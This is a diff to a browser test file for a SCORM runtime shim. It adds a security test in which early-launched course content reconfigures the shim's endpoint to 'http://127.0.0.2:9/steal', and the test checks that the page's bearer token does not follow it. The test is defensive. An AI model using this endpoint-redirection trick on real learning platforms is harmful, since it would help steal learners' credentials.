@@ -40,8 +40,10 @@ async function lms(context, { sco = "", reg = "reg-h", learner = "l-h" } = {}) {
   await servePage(page, backend.url + "/sco.html", `<!doctype html><script>
     const API = window.parent.API_1484_11, API12 = window.parent.API;
     window.out = {};
-    try { ${sco} } catch (e) { window.out.threw = String(e); }
-    window.done = true;
+    (async () => {
+      try { ${sco} } catch (e) { window.out.threw = String(e); }
+      window.done = true;
+    })();
   </script>`);
   await page.goto(backend.url + "/lms.html");
   await page.waitForFunction(() => document.getElementById("sco").contentWindow.done === true);
@@ -165,5 +167,37 @@ test("after a fault, the new instance stays frozen: no reconfiguration, no other
   assert.match(r.configure, /frozen once content has been launched/);
   assert.match(r.open, /a package is being played/);
   assert.equal(r.learner, "l-fz");
+  await context.close();
+});
+
+test("content that runs before ready cannot send the page's token to an endpoint of its choosing", async () => {
+  // A page that launches content early (an inline frame, against README's
+  // advice): the content calls configure({endpoint}) before the transport
+  // starts. The credentials stay with the endpoint they were given with.
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const token = backend.token("l-early", "reg-early", "c-h");
+  const seen = [];
+  page.on("request", (req) => seen.push({ url: req.url(), auth: req.headers().authorization || "" }));
+  await servePage(page, backend.url + "/early.html", `<!doctype html>
+    <script src="/pkg/scorm-shim.js" data-endpoint="/api" data-learner-id="l-early" data-course-id="c-h"
+            data-registration-id="reg-early" data-headers="Authorization: Bearer ${token}"></script>
+    <script>
+      // What an early SCO does through window.parent.ScormShim:
+      window.early = ScormShim.configure({ endpoint: "http://127.0.0.2:9/steal" });
+    </script>`);
+  await page.goto(backend.url + "/early.html");
+  const r = await page.evaluate(async () => {
+    await Promise.race([ScormShim.ready, new Promise((res) => setTimeout(res, 5000))]);
+    const a = window.API_1484_11;
+    const run = [a.Initialize(""), a.SetValue("cmi.location", "x"), a.Commit("")];
+    await new Promise((res) => setTimeout(res, 500));
+    return { early: window.early, run, endpoint: ScormShim.config().endpoint };
+  });
+  assert.equal(r.endpoint, "http://127.0.0.2:9/steal", "the early call was taken (the configuration was not frozen yet)");
+  assert.ok(r.early.some((m) => /headers given for the old one were dropped/.test(m)), JSON.stringify(r.early));
+  const leaked = seen.filter((s) => s.auth.includes(token) && !s.url.startsWith(backend.url + "/api/"));
+  assert.deepEqual(leaked, [], "the token went to " + leaked.map((s) => s.url).join(", "));
+  assert.ok(seen.some((s) => s.url.startsWith("http://127.0.0.2:9/steal")), "the content's endpoint was asked, without the token");
   await context.close();
 });
